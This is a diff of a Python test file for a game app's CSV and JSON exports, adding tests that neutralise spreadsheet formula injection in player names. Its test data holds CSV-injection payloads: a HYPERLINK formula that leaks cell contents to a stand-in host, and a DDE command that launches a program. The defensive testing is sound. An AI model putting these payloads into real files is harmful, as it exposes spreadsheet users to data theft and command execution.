@@ -100,6 +100,12 @@ def check_json(text, expected):
     assert doc["plays"] == expected  # every field, in the order the games finished
 
 
+def as_text(value: str) -> str:
+    """A text cell as the CSV writes it: OWASP's leading quote where a spreadsheet would see a
+    formula (issue 27); a random table id starts with '-' once in 64."""
+    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
+
+
 def check_csv(text, expected):
     reader = csv.DictReader(io.StringIO(text, newline=""))
     keys = breakdown_keys(expected)
@@ -110,8 +116,8 @@ def check_csv(text, expected):
     for doc in expected:
         for player in doc["players"]:
             row = next(rows)
-            assert row["table"] == doc["table"] and row["game"] == doc["game"] and row["finished_at"] == doc["finished_at"]
-            assert row["player"] == player["name"]
+            assert row["table"] == as_text(doc["table"]) and row["game"] == doc["game"] and row["finished_at"] == doc["finished_at"]
+            assert row["player"] == as_text(player["name"])
             assert int(row["place"]) == player["place"] and int(row["total"]) == player["total"]
             assert row["winner"] == ("true" if player["name"] in doc["winners"] else "false")
             for key in keys:
@@ -155,7 +161,9 @@ def test_export_to_a_file_through_the_installed_command(played, tmp_path):
                               capture_output=True, text=True, timeout=60)
         assert proc.returncode == 0, proc.stderr
         assert proc.stderr == ""
-        check(out.read_text(encoding="utf-8"), played["expected"])
+        written = out.read_text(encoding="utf-8")
+        assert written.startswith("\ufeff") == (fmt == "csv")  # a byte-order mark for a spreadsheet (issue 27)
+        check(written.removeprefix("\ufeff"), played["expected"])
         assert played["open"] not in out.read_text(encoding="utf-8")
     assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith("plays")) == ["plays.csv", "plays.json"]
 
@@ -179,10 +187,10 @@ def test_the_functions_write_oldest_first_whatever_order_they_are_given(played):
     """The archive page's downloads call to_json and to_csv with its own list, which may be newest first."""
     expected = played["expected"]
     check_json(export.to_json(expected), expected)
-    check_csv(export.to_csv(expected), expected)
+    check_csv(export.to_csv(expected, bom=False), expected)
     later = [dict(doc, finished_at=f"2031-01-0{9 - i}T10:00:00Z") for i, doc in enumerate(expected)]  # newest first
     assert [doc["table"] for doc in json.loads(export.to_json(later))["plays"]] == [doc["table"] for doc in reversed(later)]
-    check_csv(export.to_csv(later), list(reversed(later)))
+    check_csv(export.to_csv(later, bom=False), list(reversed(later)))
 
 
 # --- bad input ----------------------------------------------------------------------------------
@@ -362,3 +370,78 @@ def test_a_backup_of_an_idle_file_is_one_file_that_serves_every_finished_table(p
     for t, doc in zip(played["tables"], played["expected"]):
         answer = client.get(f"/api/v1/tables/{t['table']}/result", headers={"X-Table-Token": t["token"]})
         assert answer.status_code == 200 and answer.get_json() == doc
+
+
+# --- what a spreadsheet would run (issue 27, finding 17) ------------------------------------------
+
+#: names a spreadsheet would take for a formula (OWASP's CSV injection list: = + - @), as players may type them
+FORMULAS = ['=HYPERLINK("http://x.io/?"&D3,"Click")', "+1+cmd|' /C calc'!A0", "-3", "@SUM(A1:A9)"]
+BOM = "\ufeff"
+
+
+def spreadsheet_cells(text: str) -> list[list]:
+    """The rows as a spreadsheet reads them: a quoted cell is text, an unquoted one a number."""
+    assert text.startswith(BOM)
+    lines = io.StringIO(text[len(BOM):], newline="")
+    header = next(csv.reader([lines.readline()]))  # the column names, bare
+    return [header, *csv.reader(lines, quoting=csv.QUOTE_NONNUMERIC)]
+
+
+def neutral(cell) -> bool:
+    """True when no spreadsheet runs the cell: a number, or text that does not start as a formula does."""
+    return isinstance(cell, float) or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_the_csv_neutralises_every_cell_a_spreadsheet_would_run_and_keeps_numbers_numbers():
+    """OWASP's advice: a text cell that starts with = + - @ tab or carriage return gets a leading
+    single quote, and every text cell is quoted (a ';' cannot start a new cell in a spreadsheet
+    that splits on it). A number is written as a number: a total of -3 is no formula."""
+    names = [*FORMULAS, "\tTab", "\rCR", "Zoë"]
+    doc = {"table": "-x3kP9aQ", "game": "gutenberg", "finished_at": "2026-12-03T21:14:05Z", "winners": ["Zoë"],
+           "players": [{"name": name, "place": i + 1, "total": -3 - i, "breakdown": {"guilders": -3, "note": "=1+1"}}
+                       for i, name in enumerate(names)]}
+    text = export.to_csv([doc])
+    header, *rows = spreadsheet_cells(text)
+    assert header == [*FIXED, "breakdown.guilders", "breakdown.note"]
+    assert len(rows) == len(names)
+    for name, row in zip(names, rows):
+        assert all(neutral(cell) for cell in row), row
+        cells = dict(zip(header, row))
+        assert cells["table"] == "'-x3kP9aQ"  # one table id in 64 starts with '-'
+        assert cells["player"] == ("'" + name if name != "Zoë" else name)  # the name itself, after the quote
+        assert cells["breakdown.note"] == "'=1+1"
+        assert isinstance(cells["total"], float) and cells["total"] < 0 and isinstance(cells["place"], float)
+        assert cells["breakdown.guilders"] == -3.0
+    assert '"\'=HYPERLINK(""http://x.io/?""&D3,""Click"")"' in text
+
+
+def test_the_csv_export_and_download_are_safe_to_open_and_keep_accents(app, api, tmp_path, capsys):
+    """Names typed at the table, through `companion export --output`, its standard output and the
+    archive's download: every cell neutral, "Zoë" intact behind a UTF-8 byte-order mark (Excel on
+    Windows reads a file without one as its own code page) in the file and the download; standard
+    output, which programs read, has none."""
+    for names in (FORMULAS[:2], FORMULAS[2:] + ["Zoë"]):
+        finish_gutenberg(api, names, [gutenberg_row(40 + i, 1, (1, 1, 1, 1), 1, 2, 1) for i, _ in enumerate(names)])
+    folder = Path(app.config["DATABASE"]).parent
+    out = tmp_path / "plays.csv"
+    assert export_cli(capsys, "--format", "csv", "--data", str(folder), "--output", str(out))[0] == 0
+    written = out.read_bytes()
+    assert written.startswith(BOM.encode("utf-8")) and "Zoë".encode("utf-8") in written
+    status, printed, _ = export_cli(capsys, "--format", "csv", "--data", str(folder))
+    assert status == 0 and not printed.startswith(BOM) and BOM + printed == written.decode("utf-8")
+    from tests.foundation.test_plays import host_client
+
+    downloaded = host_client(app).get("/plays/export.csv").data
+    assert downloaded == written
+    header, *rows = spreadsheet_cells(written.decode("utf-8"))
+    assert sorted(row[header.index("player")] for row in rows) == sorted(["'" + n for n in FORMULAS] + ["Zoë"])
+    assert all(neutral(cell) for row in rows for cell in row)
+
+
+def test_the_json_export_keeps_names_as_typed(app, api, capsys):
+    """The JSON is data for programs, not a spreadsheet: no quote is added, no byte-order mark."""
+    t = finish_gutenberg(api, FORMULAS[:2], [gutenberg_row(40, 1, (1, 1, 1, 1), 1, 2, 1), gutenberg_row(41, 1, (1, 1, 1, 1), 1, 2, 1)])
+    status, printed, _ = export_cli(capsys, "--data", str(Path(app.config["DATABASE"]).parent))
+    assert status == 0 and printed.startswith("{")  # no byte-order mark
+    (doc,) = json.loads(printed)["plays"]
+    assert doc["table"] == t["table"] and [p["name"] for p in doc["players"]] == FORMULAS[:2]
